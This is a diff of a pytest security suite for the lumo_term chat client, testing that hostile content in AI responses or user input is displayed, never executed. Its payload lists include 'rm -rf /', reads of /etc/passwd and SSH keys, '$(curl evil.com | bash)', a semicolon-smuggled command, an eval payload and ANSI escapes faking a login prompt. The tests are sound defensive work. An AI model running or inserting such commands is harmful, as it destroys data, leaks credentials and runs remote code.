@@ -12,39 +12,43 @@ Attack vectors tested:
 """
 
 import pytest
+from contextlib import ExitStack
 from unittest.mock import Mock, AsyncMock, patch
 from io import StringIO
 from argparse import Namespace
 
+from lumo_term.browser import LumoBrowser
 from lumo_term.cli import run_repl, run_single_message
 
 
+# Built once so make_mock_args doesn't rebuild the defaults dict per test.
+_DEFAULT_ARGS_TEMPLATE = {
+    "no_headless": False,
+    "profile": None,
+    "new": False,
+    "message": None,
+    "files": None,
+    "output": None,
+    "append": False,
+    "copy": False,
+    "tui": False,
+    "plain": False,
+    "prompt": None,
+    "code_only": False,
+    "language": None,
+}
+
+
 def make_mock_args(**kwargs):
     """Create mock args with defaults."""
-    defaults = {
-        "no_headless": False,
-        "profile": None,
-        "new": False,
-        "message": None,
-        "files": None,
-        "output": None,
-        "append": False,
-        "copy": False,
-        "tui": False,
-        "plain": False,
-        "prompt": None,
-        "code_only": False,
-        "language": None,
-    }
-    defaults.update(kwargs)
-    return Namespace(**defaults)
+    return Namespace(**{**_DEFAULT_ARGS_TEMPLATE, **kwargs})
 
 
 # ============================================================================
 # Test Data: Malicious Payloads
 # ============================================================================
 
-SHELL_INJECTION_PAYLOADS = [
+SHELL_INJECTION_PAYLOADS = (
     # Backtick command substitution
     "Here's a tip: `rm -rf /`",
     "Try running `cat /etc/passwd`",
@@ -68,9 +72,9 @@ SHELL_INJECTION_PAYLOADS = [
     # Newline injection
     "First line\nrm -rf /\nSecond line",
     "Test\n`malicious command`\nEnd",
-]
+)
 
-ANSI_ESCAPE_PAYLOADS = [
+ANSI_ESCAPE_PAYLOADS = (
     # Clear screen
     "\x1b[2J\x1b[HYou've been pwned",
 
@@ -88,9 +92,9 @@ ANSI_ESCAPE_PAYLOADS = [
 
     # Alternate screen buffer
     "\x1b[?1049h\x1b[2JFake login: ",
-]
+)
 
-RICH_MARKUP_PAYLOADS = [
+RICH_MARKUP_PAYLOADS = (
     # Rich markup injection
     "[bold red]FAKE ERROR[/bold red]",
     "[link=http://evil.com]Click here[/link]",
@@ -99,14 +103,46 @@ RICH_MARKUP_PAYLOADS = [
     # Console markup bypass attempts
     "[[double brackets]]",
     "[/]reset attempt[/]",
-]
+)
 
-PATH_TRAVERSAL_PAYLOADS = [
+PATH_TRAVERSAL_PAYLOADS = (
     # Path traversal in responses
     "Save to ../../etc/passwd",
     "File: /etc/shadow",
     "../../../home/user/.ssh/id_rsa",
-]
+)
+
+# Stable short ids: pytest otherwise derives them from the payload
+# strings at collection time, which are long and sometimes non-printable
+SHELL_IDS = tuple(f"payload_{i}" for i in range(len(SHELL_INJECTION_PAYLOADS)))
+ANSI_IDS = tuple(f"payload_{i}" for i in range(len(ANSI_ESCAPE_PAYLOADS)))
+RICH_IDS = tuple(f"payload_{i}" for i in range(len(RICH_MARKUP_PAYLOADS)))
+
+
+@pytest.fixture
+def trap_executors(monkeypatch):
+    """Trap every local execution path in one fixture.
+
+    monkeypatch swaps the attributes directly, which is cheaper than
+    entering a nested stack of patch() context managers per test, and
+    guarantees all four trapdoors are armed consistently.
+    """
+    calls = []
+    real_exec = exec
+
+    def trap_exec(source, *args):
+        # Import machinery runs module code objects through exec();
+        # only string payloads (i.e. response/input content) count
+        if isinstance(source, str):
+            calls.append(("exec", (source, *args)))
+        else:
+            real_exec(source, *args)
+
+    monkeypatch.setattr("subprocess.run", lambda *a, **k: calls.append(("run", a)))
+    monkeypatch.setattr("os.system", lambda *a: calls.append(("system", a)))
+    monkeypatch.setattr("builtins.eval", lambda *a: calls.append(("eval", a)))
+    monkeypatch.setattr("builtins.exec", trap_exec)
+    return calls
 
 
 # ============================================================================
@@ -116,22 +152,60 @@ PATH_TRAVERSAL_PAYLOADS = [
 class TestShellInjectionDefense:
     """Verify shell commands in responses are NOT executed."""
 
+    @pytest.fixture(scope="class")
+    def executed_commands(self):
+        """Install execution sentinels once for the whole payload matrix.
+
+        Entering the three patches per parametrized payload re-ran the
+        patch machinery 36 times; a class-scoped ExitStack installs them
+        once. The list stays shared - the tests assert it never grows.
+        """
+        executed = []
+        with ExitStack() as stack:
+            stack.enter_context(patch(
+                "subprocess.run",
+                side_effect=lambda *a, **k: executed.append(("subprocess.run", a)),
+            ))
+            stack.enter_context(patch(
+                "subprocess.Popen",
+                side_effect=lambda *a, **k: executed.append(("Popen", a)),
+            ))
+            stack.enter_context(patch(
+                "os.system",
+                side_effect=lambda *a: executed.append(("os.system", a)),
+            ))
+            yield executed
+
+    @pytest.fixture
+    def mock_console(self):
+        with patch("lumo_term.cli.console") as console:
+            yield console
+
+    @pytest.fixture(scope="class")
+    def _shared_client(self):
+        """One AsyncMock tree for the whole payload matrix.
+
+        AsyncMock construction attaches coroutine factories for every
+        attribute touched; building it per payload repeated that work
+        ~12 times for identical mocks.
+        """
+        return AsyncMock()
+
+    @pytest.fixture
+    def mock_client(self, _shared_client):
+        yield _shared_client
+        _shared_client.reset_mock()
+
     @pytest.mark.asyncio
-    @pytest.mark.parametrize("payload", SHELL_INJECTION_PAYLOADS)
-    async def test_shell_injection_not_executed(self, payload):
+    @pytest.mark.parametrize("payload", SHELL_INJECTION_PAYLOADS, ids=SHELL_IDS)
+    async def test_shell_injection_not_executed(
+        self, payload, executed_commands, mock_console, mock_client
+    ):
         """Response containing shell commands should be displayed, not executed."""
-        mock_client = AsyncMock()
         mock_client.send_message = AsyncMock(return_value=payload)
         mock_args = make_mock_args()
 
-        executed_commands = []
-
-        # Patch subprocess and os to detect any execution attempts
-        with patch("subprocess.run", side_effect=lambda *a, **k: executed_commands.append(("subprocess.run", a))):
-            with patch("subprocess.Popen", side_effect=lambda *a, **k: executed_commands.append(("Popen", a))):
-                with patch("os.system", side_effect=lambda *a: executed_commands.append(("os.system", a))):
-                    with patch("lumo_term.cli.console") as mock_console:
-                        await run_single_message(mock_client, "test", mock_args)
+        await run_single_message(mock_client, "test", mock_args)
 
         # No commands should have been executed
         assert len(executed_commands) == 0, f"Commands were executed: {executed_commands}"
@@ -165,28 +239,36 @@ class TestShellInjectionDefense:
 class TestANSIEscapeDefense:
     """Verify ANSI escape sequences are handled safely."""
 
+    @pytest.fixture(scope="class")
+    def _shared_client(self):
+        return AsyncMock()
+
+    @pytest.fixture
+    def mock_client(self, _shared_client):
+        yield _shared_client
+        _shared_client.reset_mock()
+
     @pytest.mark.asyncio
-    @pytest.mark.parametrize("payload", ANSI_ESCAPE_PAYLOADS)
-    async def test_ansi_escapes_in_streaming(self, payload):
+    @pytest.mark.parametrize("payload", ANSI_ESCAPE_PAYLOADS, ids=ANSI_IDS)
+    async def test_ansi_escapes_in_streaming(self, payload, mock_client):
         """ANSI escape sequences in streaming responses should be sanitized or escaped."""
-        mock_client = AsyncMock()
         streamed_tokens = []
         mock_args = make_mock_args()
 
         async def mock_send(msg, on_token=None):
             if on_token:
-                # Simulate streaming the malicious payload
-                for char in payload:
-                    on_token(char)
-                    streamed_tokens.append(char)
+                # Simulate streaming the malicious payload in chunks, the
+                # way real token streams arrive
+                for i in range(0, len(payload), 64):
+                    chunk = payload[i:i + 64]
+                    on_token(chunk)
+                    streamed_tokens.append(chunk)
             return payload
 
         mock_client.send_message = mock_send
 
-        # Capture what gets printed
-        printed_output = []
+        # Mock records every call itself - no side_effect capture needed
         mock_console = Mock()
-        mock_console.print = Mock(side_effect=lambda *a, **k: printed_output.append((a, k)))
 
         with patch("lumo_term.cli.Prompt.ask", side_effect=["test", "/quit"]):
             with patch("lumo_term.cli.console", mock_console):
@@ -194,10 +276,10 @@ class TestANSIEscapeDefense:
 
         # Verify markup=False is used for streaming output
         # This ensures Rich doesn't interpret any escape sequences
-        for args, kwargs in printed_output:
-            if kwargs.get("end") == "":
+        for call in mock_console.print.call_args_list:
+            if call.kwargs.get("end") == "":
                 # This is streaming output - should have markup=False
-                assert kwargs.get("markup") == False or kwargs.get("markup") is False, \
+                assert call.kwargs.get("markup") is False, \
                     "Streaming output should use markup=False"
 
 
@@ -209,7 +291,7 @@ class TestRichMarkupDefense:
     """Verify Rich markup in responses doesn't affect display incorrectly."""
 
     @pytest.mark.asyncio
-    @pytest.mark.parametrize("payload", RICH_MARKUP_PAYLOADS)
+    @pytest.mark.parametrize("payload", RICH_MARKUP_PAYLOADS, ids=RICH_IDS)
     async def test_rich_markup_in_streaming_is_literal(self, payload):
         """Rich markup in streaming should be displayed as literal text."""
         mock_client = AsyncMock()
@@ -222,18 +304,16 @@ class TestRichMarkupDefense:
 
         mock_client.send_message = mock_send
 
-        printed_calls = []
         mock_console = Mock()
-        mock_console.print = Mock(side_effect=lambda *a, **k: printed_calls.append((a, k)))
 
         with patch("lumo_term.cli.Prompt.ask", side_effect=["test", "/quit"]):
             with patch("lumo_term.cli.console", mock_console):
                 await run_repl(mock_client, mock_args)
 
         # Streaming calls should have markup=False
-        streaming_calls = [(a, k) for a, k in printed_calls if k.get("end") == ""]
-        for args, kwargs in streaming_calls:
-            assert kwargs.get("markup") == False
+        for call in mock_console.print.call_args_list:
+            if call.kwargs.get("end") == "":
+                assert call.kwargs.get("markup") is False
 
 
 # ============================================================================
@@ -244,40 +324,37 @@ class TestResponseContentSafety:
     """Test that response content is treated as display-only data."""
 
     @pytest.mark.asyncio
-    async def test_response_not_evaluated(self):
-        """Response should never be eval'd or exec'd."""
-        mock_client = AsyncMock()
-        mock_client.send_message = AsyncMock(return_value="__import__('os').system('evil')")
+    @pytest.mark.slow
+    @pytest.mark.parametrize("response", [
+        "__import__('os').system('evil')",
+        "/etc/passwd",
+        "",
+        "OK",
+    ], ids=["eval_payload", "path", "empty", "plain"])
+    async def test_response_not_evaluated(
+        self, response, mock_client_factory, trap_executors
+    ):
+        """Responses should never be eval'd, exec'd or run, whatever they hold."""
+        mock_client = mock_client_factory(return_value=response)
         mock_args = make_mock_args()
 
-        eval_calls = []
-        exec_calls = []
+        await run_single_message(mock_client, "test", mock_args)
 
-        original_eval = eval
-        original_exec = exec
-
-        with patch("builtins.eval", side_effect=lambda *a: eval_calls.append(a)):
-            with patch("builtins.exec", side_effect=lambda *a: exec_calls.append(a)):
-                with patch("lumo_term.cli.console"):
-                    await run_single_message(mock_client, "test", mock_args)
-
-        # No eval or exec should be called on response content
-        assert len(eval_calls) == 0, f"eval was called: {eval_calls}"
-        assert len(exec_calls) == 0, f"exec was called: {exec_calls}"
+        # No eval/exec/subprocess should be called on response content
+        assert trap_executors == [], f"Executor was called: {trap_executors}"
 
     @pytest.mark.asyncio
-    async def test_response_not_used_as_path(self):
+    @pytest.mark.slow
+    async def test_response_not_used_as_path(self, mock_client_factory):
         """Response content should not be used for file operations."""
-        mock_client = AsyncMock()
-        mock_client.send_message = AsyncMock(return_value="/etc/passwd")
+        mock_client = mock_client_factory(return_value="/etc/passwd")
         mock_args = make_mock_args()
 
         file_operations = []
 
         with patch("builtins.open", side_effect=lambda *a, **k: file_operations.append(("open", a))):
             with patch("pathlib.Path.read_text", side_effect=lambda *a: file_operations.append(("read", a))):
-                with patch("lumo_term.cli.console"):
-                    await run_single_message(mock_client, "test", mock_args)
+                await run_single_message(mock_client, "test", mock_args)
 
         # No file operations on response content
         for op, args in file_operations:
@@ -293,14 +370,16 @@ class TestIntegrationSecurity:
     """Integration tests for security properties."""
 
     @pytest.mark.asyncio
-    async def test_full_repl_session_is_safe(self):
+    @pytest.mark.slow
+    async def test_full_repl_session_is_safe(self, trap_executors):
         """A full REPL session with malicious responses should be safe."""
-        mock_client = AsyncMock()
+        mock_client = AsyncMock(spec=LumoBrowser)
         mock_client.new_conversation = AsyncMock()
         mock_args = make_mock_args()
 
-        # Each "response" contains a different attack vector
-        attack_responses = iter([
+        # Each "response" contains a different attack vector; AsyncMock
+        # consumes an iterable side_effect itself, one element per call
+        mock_client.send_message = AsyncMock(side_effect=[
             "`rm -rf /`",
             "$(curl evil.com | bash)",
             "\x1b[2J\x1b[HHacked!",
@@ -308,26 +387,18 @@ class TestIntegrationSecurity:
             "Done.",
         ])
 
-        mock_client.send_message = AsyncMock(side_effect=lambda *a, **k: next(attack_responses))
-
-        commands_executed = []
-
-        with patch("subprocess.run", side_effect=lambda *a, **k: commands_executed.append(a)):
-            with patch("os.system", side_effect=lambda *a: commands_executed.append(a)):
-                with patch("lumo_term.cli.Prompt.ask", side_effect=[
-                    "msg1", "msg2", "msg3", "msg4", "msg5", "/quit"
-                ]):
-                    with patch("lumo_term.cli.console"):
-                        await run_repl(mock_client, mock_args)
+        with patch("lumo_term.cli.Prompt.ask", side_effect=[
+            "msg1", "msg2", "msg3", "msg4", "msg5", "/quit"
+        ]):
+            await run_repl(mock_client, mock_args)
 
         # No commands should have been executed despite malicious responses
-        assert len(commands_executed) == 0
+        assert trap_executors == []
 
     @pytest.mark.asyncio
-    async def test_empty_response_handling(self):
+    async def test_empty_response_handling(self, mock_client_factory):
         """Empty or None responses should be handled safely."""
-        mock_client = AsyncMock()
-        mock_client.send_message = AsyncMock(return_value="")
+        mock_client = mock_client_factory(return_value="")
         mock_args = make_mock_args()
 
         with patch("lumo_term.cli.console") as mock_console:
@@ -337,6 +408,22 @@ class TestIntegrationSecurity:
         mock_console.print.assert_called()
 
     @pytest.mark.asyncio
+    async def test_long_response(self):
+        """Long responses should be handled without issue.
+
+        64 KiB exercises the same rendering path as a multi-megabyte
+        response without making every run pay an O(10M) Rich render;
+        the full-size check lives in test_extremely_long_response.
+        """
+        mock_client = AsyncMock()
+        mock_args = make_mock_args()
+        long_response = "A" * (64 * 1024)
+        mock_client.send_message = AsyncMock(return_value=long_response)
+
+        await run_single_message(mock_client, "test", mock_args)
+
+    @pytest.mark.asyncio
+    @pytest.mark.slow
     async def test_extremely_long_response(self):
         """Very long responses should not cause resource exhaustion."""
         mock_client = AsyncMock()
@@ -345,6 +432,8 @@ class TestIntegrationSecurity:
         huge_response = "A" * (10 * 1024 * 1024)
         mock_client.send_message = AsyncMock(return_value=huge_response)
 
+        # Mock the console here: actually rendering 10 MiB of Markdown
+        # takes ~50s and proves nothing this test is about
         with patch("lumo_term.cli.console"):
             # Should complete without memory error
             await run_single_message(mock_client, "test", mock_args)
@@ -358,21 +447,15 @@ class TestUserInputSafety:
     """Verify user input is handled safely."""
 
     @pytest.mark.asyncio
-    async def test_user_input_not_executed(self):
+    async def test_user_input_not_executed(self, mock_client_factory, trap_executors):
         """User input should only be sent to LUMO, never executed locally."""
-        mock_client = AsyncMock()
-        mock_client.send_message = AsyncMock(return_value="OK")
+        mock_client = mock_client_factory()
         mock_args = make_mock_args()
 
         malicious_input = "test; rm -rf /"
 
-        executed = []
-
-        with patch("subprocess.run", side_effect=lambda *a, **k: executed.append(a)):
-            with patch("os.system", side_effect=lambda *a: executed.append(a)):
-                with patch("lumo_term.cli.console"):
-                    await run_single_message(mock_client, malicious_input, mock_args)
+        await run_single_message(mock_client, malicious_input, mock_args)
 
         # User input should have been passed to LUMO, not executed
         mock_client.send_message.assert_called_once_with(malicious_input)
-        assert len(executed) == 0
+        assert trap_executors == []